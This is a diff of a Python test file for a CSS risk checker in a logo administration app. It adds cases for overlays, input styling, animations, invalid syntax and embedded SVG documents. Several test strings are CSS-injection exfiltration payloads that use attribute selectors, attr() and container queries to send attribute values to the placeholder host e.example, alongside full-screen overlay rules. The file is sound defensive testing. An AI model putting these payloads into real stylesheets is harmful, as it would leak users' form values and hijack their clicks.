@@ -1,21 +1,31 @@
-"""The verdict on CSS: its hosts, imports and size, for any text whatsoever (contract L4, docs/works.md)."""
+"""The verdict on CSS: its hosts, imports, risks and documents, and the service of it (contract L4)."""
 
 import base64
 import time
-from typing import Final, Never, get_args
+from typing import Any, Final, Never, cast, get_args
 from urllib.parse import quote
 
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
+from logoadmin.adapters.memory_storage import MemoryStorage
+from logoadmin.domain.kernel.errors import InvalidInput
 from logoadmin.domain.kernel.kinds import CssForm
-from logoadmin.domain.publication.css import MAX_BLOCKS, judge
+from logoadmin.domain.kernel.limits import MAX_CUSTOM_CSS
+from logoadmin.domain.logo_admin import LogoAdmin
+from logoadmin.domain.publication.css import MAX_BLOCKS, TOO_LONG, judge
 from logoadmin.domain.publication.css import judging as verdict
+from logoadmin.domain.publication.css.css_service import MAX_SECONDS, JudgeCss
+from logoadmin.domain.publication.css.judging import MAX_RISKS, TOO_DEEP, TOO_MANY
 from logoadmin.domain.publication.css.tokens import MAX_LEVELS
+from logoadmin.domain.publication.css.verdict import CssRisk, RiskName, Verdict
+from tests.domain.publication.data_documents import ADDRESS, HARMLESS, HOST, RISKY, svg, url
+from tests.gallery import FrozenClock, gallery_on
 from tests.strategies import css_texts
 
 pytestmark = pytest.mark.rule("contract L4")
+
 
 A, B = "a.example", "b.example:8080"
 
@@ -150,19 +160,19 @@ def test_imports_are_listed_wherever_they_are(css: str) -> None:
     for form in ("sheet", "declarations"):
         verdict = judge(css, form)
         assert list(verdict.import_urls) == IMPORTS[css]
-        assert (A in verdict.hosts) == any(A in url for url in IMPORTS[css])
+        assert (A in verdict.hosts) == any(A in address for address in IMPORTS[css])
 
 
-@pytest.mark.parametrize("url", URLS)
-def test_urls_are_read_as_browsers_read_them(url: str) -> None:
-    escaped = "".join(f"\\{ord(character):x} " for character in url)
-    assert list(judge(f"a{{b:url({escaped})}}", "sheet").hosts) == URLS[url]
+@pytest.mark.parametrize("address", URLS)
+def test_urls_are_read_as_browsers_read_them(address: str) -> None:
+    escaped = "".join(f"\\{ord(character):x} " for character in address)
+    assert list(judge(f"a{{b:url({escaped})}}", "sheet").hosts) == URLS[address]
 
 
 def test_the_sheets_in_data_urls_count() -> None:
     inner = f"@import '//a.example';c{{d:url(//{B})}}"
     nested = f"@import 'data:text/css,{quote(inner)}'"
-    for url in (
+    for sheet in (
         f"data:text/css,{quote(inner)}",
         f" da\\9 ta:,{quote(inner)}#x",
         f"data:text/css;base64,{base64.b64encode(inner.encode()).decode()}",
@@ -170,7 +180,7 @@ def test_the_sheets_in_data_urls_count() -> None:
         f"data:text/css,{quote(inner.encode('utf-16'))}",
         f"data:text/css,{quote(nested)}",
     ):
-        verdict = judge(f"@import url({url})", "sheet")
+        verdict = judge(f"@import url({sheet})", "sheet")
         assert (verdict.hosts, len(verdict.imports)) == ((A, B), 1)
     for _ in range(4):
         nested = f"@import 'data:text/css,{quote(nested)}'"
@@ -230,3 +240,238 @@ def test_a_text_takes_time_in_proportion_to_its_length(piece: str) -> None:
 @pytest.mark.parametrize("css", ["{" * 60_000, "a{" * 60_000, "(" * 2**18, "\\\\" * 2**19])
 def test_any_depth_is_survived(css: str) -> None:
     assert {each.risk for each in judge(css, "sheet").risks} <= {"invalid"}
+
+
+WINDOW: Final = "width:100vw;height:100vh"
+
+# The mark § is where a risk is; it is not part of the CSS.
+OVERLAYS = [
+    *("a{§position:fixed;inset:0}", "a{inset:0;color:red;§position:fixed!important}"),
+    *(f"a{{§position:absolute;{WINDOW}}}", "a{§position:sticky;min-block-size:95dvh;min-inline-size:stretch}"),
+    "a{§position:-webkit-sticky;top:0;left:-1px;bottom:0%;right:calc(1px - 1px)}",
+    "a{§position:absolute;inset-block:0;inset-inline-start:0;inset-inline-end:var(--x)}",
+    *("a{§position:fixed}@media print{b,a{inset:0}}", "a{§position:fixed;@media all{&{inset:0}}}"),
+    *("a{§position:fixed;inset:1px}", "a{§position:fixed;inset:10% 20px}", "a{§position:absolute;inset:0 auto}"),
+    *("a{§position:sticky;top:9px;bottom:5em}", "a{§position:absolute;left:-1vw;right:30%}"),
+    *("a{§position:fixed;inset:auto 1px auto 1px}", "a{§PO\\53ition:FIXED;WIDTH:100%;HEIGHT:2000px}"),
+    *("a{§position:fixed;inset:var(--a)}", "a{§position:fixed;top:anchor(top);bottom:anchor(bottom)}"),
+    *("a{§position:fixed;width:50%;height:50%}", "a{§position:fixed;width:50vw;height:55svh}"),
+    *("a{§position:fixed;min-width:640px;min-height:360px}", "a{§position:fixed;width:40em;height:calc(1px*900)}"),
+    *(".a  > b{§position:fixed;top:0}.A > b{bottom:0}", "a{@media all{§position:fixed}inset:0}"),
+    "a{§position:var(--x);inset:0}",
+]
+NO_OVERLAYS = [
+    *("a{position:absolute;top:0;left:0}", "a{position:fixed;inset:auto auto 0 0;width:49%;height:100%}"),
+    *("a{position:absolute;inset:0 auto auto;height:9px}", "a{position:absolute}b{inset:0}"),
+    *("a{position:relative;inset:0;z-index:5}", "a{position:fixed;z-index:10;width:100%}", "a{inset:0}"),
+    "a{position:fixed}a::before{inset:0}",
+]
+INPUTS = [
+    *("§input{color:red}", "b,§INPUT.x:focus{}", "form>§textarea{}", "p:is(§select,b){}", "p{&:has(§input){}}"),
+    *("§[type=password]{}", "x:§placeholder-shown{}", "x::§-webkit-input-placeholder{}", "x:§-webkit-autofill{}"),
+    *("@scope(§input){b{}}", "a{§caret-color:red}", "@media all{§inp\\75t{}}"),
+]
+NO_INPUTS = ["a.input{}", "#input{}", "a{content:'input'}", "[data-x=input]{}", "input-box{}", "@media (update:x){a{}}"]
+EXFILTRATION = [
+    *("x§[value^='a']{background:url(//e.example/a)}", "§[href*='a']{p{content:image-set('https://e.example' 1x)}}"),
+    *("p:has(§[x$=a]) q{b:url(//e.example)}", "§[x=a]{--y:1}b{c:url(//e.example)}"),
+    "§[x|=a]{font-family:f}@font-face{font-family:f;src:url(//e.example)}",
+    "§[x~=a]{c:var(--y)}:root{--y:url(//e.example)}",
+    "§[x=a]{width:1px}@container(width:1px){b{c:url(//e.example)}}",
+    *("@font-face{font-family:f;src:url(//e.example);§unicode-range:U+61}", "a{§b:src(attr(value))}"),
+    "@scope(§[a=b]){c{d:url(//e.example)}}",
+]
+# An attribute's value by way of attr(), with a query and a request.
+ATTRIBUTES: Final = [
+    "a{§--x:attr(value)}@container style(--x:1){b{c:url(//e.example)}}",
+    "a{§--x:attr(value type(<number>))}@container style(--x > 5){b{c:url(//e.example)}}",
+    "a{§--x:attr(value);@container style(--x:1){b{c:url(//e.example)}}}",
+    "a{§--x:\\61ttr(value)}@CONTAINER style(--x:1){b{c:url(//e.example)}}",
+    "a{§width:attr(value px)}@container(width>5px){b{c:url(//e.example)}}",
+    "a{§width:calc(1px*attr(value))}@container x (width>5px){b{c:url(//e.example)}}",
+    "a{§--x:attr(value)}@container style(--x:1){b{font-family:f}}@font-face{font-family:f;src:url(//e.example)}",
+    "a{§--x:attr(value)}@container style(--x:1){b{--y:1}}@import '//e.example';",
+    "a{§--x:attr(value);c:if(style(--x:1):url(//e.example);else:none)}",
+    "a{§--x:attr(value)}b{c:if(style(--x:1):var(--u))}q{--u:url(//e.example)}",
+    "a{§c:if(style(--x:attr(value)):url(//e.example))}",
+    "§@container style(--x:attr(value)){b{c:url(//e.example)}}",
+    "@function --f(){§result:attr(value)}@container style(--x:1){b{c:url(//e.example)}}",
+    "a{§animation-name:attr(value type(<custom-ident>))}b{c:url(//e.example)}",
+    "a{§font-family:attr(value)}@font-face{font-family:f;src:url(//e.example)}",
+]
+NO_EXFILTRATION = [
+    *("a{content:attr(title)}b{c:url(//e.example)}", "a{--x:attr(value)}@container style(--x:1){b{c:url(i.png)}}"),
+    *("@container(width>5px){b{c:url(//e.example)}}", "[x^=a]{color:red}b{c:url(//e.example)}"),
+    *("[x]{b:url(//e.example)}", "[x^=a]{b:url(i.png)}", "[x^=a]{--y:1}b{c:var(--y)}"),
+    *("@font-face{font-family:f;src:local(x);unicode-range:U+61}", "[x^=a]{b:var(--y)}b{c:url(//e.example)}c{--y:1}"),
+]
+ANIMATIONS = [
+    *("§@keyframes x{}", "§@-webkit-keyframes x{from{a:b}}", "a{§animation:x 1s}", "a{§-webkit-animation-name:x}"),
+    "@media all{a{b:c;§ANIMATION:none,x}}",
+]
+NO_ANIMATIONS = ["a{animation:none!important;animation-name:inherit}", "a{transition:all 1s}", "a{animation-delay:1s}"]
+INVALID = [
+    *(
+        "a§{",
+        "a{b:'c'}§}",
+        "a§{b:§(c",
+        "a{}§/* b",
+        "a§{b:§'c",
+        "a§{b:§url(c",
+        "a{b:§'c\n}",
+        "a{}§}",
+        "a§{b:§url(c d\\)}",
+    ),
+]
+VALID = [
+    *("", "a{}", "a{b:c;}", "<!-- a{} -->", "@import 'x'", "/* } */ a { b: '}' }", "a{--b:{c};--d:;e:f}"),
+    *("a{&:hover{b:c}@media all{d:e}f g{}}", "@media all{a{b:url(c)}}", "@layer a, b;", "a{b:url()}", "a{b:foo()}"),
+    *(
+        "\ufeffa{}",
+        "a{//b:c;\nd:e}",
+        "a{b}",
+        "a{*b:c}",
+        "a",
+        "{b:c}",
+        "a{}\r\n\f\u00e9)b{}",
+        "a{b:\\\nc}",
+        "a{b:url(c d)}",
+    ),
+]
+
+RISKY_SHEETS: Final[dict[RiskName, list[str]]] = {
+    "overlay": OVERLAYS + NO_OVERLAYS,
+    "input_styling": INPUTS + NO_INPUTS,
+    "attribute_exfiltration": EXFILTRATION + ATTRIBUTES + NO_EXFILTRATION,
+    "animation": ANIMATIONS + NO_ANIMATIONS,
+    "invalid": INVALID + VALID,
+}
+DECLARATIONS: Final[dict[RiskName, list[str]]] = {
+    "overlay": ["§position:fixed;inset:0", "position:absolute"],
+    "input_styling": ["-x:y;§-webkit-text-security:disc"],
+    "animation": ["§animation:x 1s", "animation:none"],
+    "invalid": [
+        *("a: b; §@media all { c: d }", "a: b; §c { d: e }", "a: b§}", "--a: §{}", "§@import 'x'", "a: b; c: d", ""),
+        "a: b; ;",
+    ],
+}
+
+
+def places(css: str, risk: RiskName, form: CssForm) -> list[tuple[int, int]]:
+    return [(each.line, each.column) for each in judge(css, form).risks if each.risk == risk]
+
+
+def marked(css: str) -> tuple[str, list[tuple[int, int]]]:
+    """Return CSS without its marks, and the lines and columns where they were."""
+    found, parts = [], css.split("§")
+    for index in range(1, len(parts)):
+        before = "".join(parts[:index]).replace("\r\n", "\n").replace("\f", "\n")
+        found.append((before.count("\n") + 1, len(before) - before.rfind("\n")))
+    return "".join(parts), found
+
+
+@pytest.mark.parametrize(("risk", "text"), [(risk, text) for risk, texts in RISKY_SHEETS.items() for text in texts])
+def test_the_risks_of_a_sheet_are_found_at_their_places(risk: RiskName, text: str) -> None:
+    css, expected = marked(text)
+    assert places(css, risk, "sheet") == expected
+
+
+@pytest.mark.parametrize(("risk", "text"), [(risk, text) for risk, texts in DECLARATIONS.items() for text in texts])
+def test_the_risks_of_declarations_are_found_at_their_places(risk: RiskName, text: str) -> None:
+    css, expected = marked(text)
+    assert places(css, risk, "declarations") == expected
+
+
+def test_only_the_first_risks_of_a_kind_are_listed() -> None:
+    risks = judge("input{}" * 100 + "@keyframes x{}", "sheet").risks
+    assert [each.risk for each in risks] == ["input_styling"] * MAX_RISKS + ["animation"]
+    assert risks[1] == CssRisk("input_styling", 1, 8)
+
+
+def sheet(document: str, use: str = "mask") -> str:
+    """Return CSS that uses a `data:` URL, as a string in which nothing has to be read twice."""
+    escaped = "".join(f"\\{ord(each):x} " if each in '"\\\n\t' else each for each in document)
+    return f'\n a{{{use}:url("{escaped}")}}'
+
+
+@pytest.mark.parametrize("document", HARMLESS)
+def test_a_document_that_names_nothing_else_is_no_risk(document: str) -> None:
+    verdict = judge(sheet(document), "sheet")
+    assert (verdict.risks, verdict.hosts) == ((), ())
+
+
+@pytest.mark.parametrize("document", RISKY)
+def test_a_document_that_names_something_or_cannot_be_read_is_a_risk(document: str) -> None:
+    for form, css in (("sheet", sheet(document)), ("declarations", sheet(document)[4:-1])):
+        verdict = judge(css, cast(CssForm, form))
+        assert {each.risk for each in verdict.risks} == {"document"}
+
+
+@pytest.mark.parametrize("use", ["clip-path", "filter", "mask", "fill", "marker-start", "background", "--x"])
+def test_the_hosts_that_a_document_names_count_wherever_it_is_used(use: str) -> None:
+    verdict = judge(sheet(url(svg(f"<image href='{ADDRESS}'/>")), use), "sheet")
+    assert (verdict.hosts, [(each.risk, each.line) for each in verdict.risks]) == ((HOST,), [("document", 2)])
+
+
+def test_documents_in_imported_sheets_count_at_the_import() -> None:
+    inner = sheet(url(svg("<script/>"))).replace("%", "%25")
+    verdict = judge(f"@import 'data:text/css,{inner.strip().replace(chr(34), '%22')}'", "sheet")
+    assert [(each.risk, each.line, each.column) for each in verdict.risks] == [("document", 1, 1)]
+
+
+def test_documents_inside_each_other_are_read_up_to_three() -> None:
+    document = url(svg("<rect/>"))
+    for levels in (2, 3):
+        document = url(svg(f'<image href="{document}"/>'))
+        assert judge(sheet(document), "sheet").risks == (), levels
+    assert judge(sheet(url(svg(f'<image href="{document}"/>'))), "sheet").risk_names == ("document",)
+
+
+CSS = "a{background:url(//i.example)}@import 'https://s.example/x.css';"
+
+
+@pytest.mark.parametrize(
+    ("command", "form"),
+    [(JudgeCss(kind="logo", custom_css=CSS), "declarations"), (JudgeCss(kind="theme", custom_css=CSS), "sheet")],
+)
+def test_it_is_that_of_a_record_with_this_css(gallery: LogoAdmin, command: JudgeCss, form: CssForm) -> None:
+    verdict = gallery.css.judge(command)
+    assert verdict == judge(CSS, form)
+    assert verdict.hosts == ("i.example", "s.example")
+    assert verdict.reason == ""
+
+
+class RunningClock(FrozenClock):
+    """Each look at it takes a while."""
+
+    def worked(self) -> float:
+        self.looked = getattr(self, "looked", 0.0) + MAX_SECONDS / 3
+        return self.looked
+
+
+def test_what_takes_too_long_is_invalid_with_the_reason_and_may_be_asked_again() -> None:
+    css = "p{background:url(//slow.example)}"
+    slow = gallery_on(MemoryStorage(), RunningClock()).css.judge(JudgeCss(kind="theme", custom_css=css))
+    assert slow == Verdict("sheet", (), (), len(css), (CssRisk("invalid", 1, 1),), TOO_LONG)
+    quick = gallery_on(MemoryStorage(), FrozenClock()).css.judge(JudgeCss(kind="theme", custom_css=css))
+    assert quick.hosts == ("slow.example",)
+
+
+@pytest.mark.parametrize(
+    ("css", "reason"), [("{" * 30_000, TOO_MANY), ("a{" * 65 + "}" * 65, TOO_DEEP), ("a{" * 64 + "}" * 64, "")]
+)
+def test_a_text_that_is_not_judged_in_full_has_a_reason(css: str, reason: str) -> None:
+    assert judge(css, "sheet").reason == reason
+
+
+@pytest.mark.parametrize(
+    "values",
+    [
+        {"kind": "author", "custom_css": ""},
+        {"kind": "logo"},
+        {"kind": "logo", "custom_css": "a" * (MAX_CUSTOM_CSS + 1)},
+    ],
+)
+def test_other_kinds_and_longer_texts_are_refused(values: dict[str, Any]) -> None:
+    with pytest.raises(InvalidInput):
+        JudgeCss(**values)
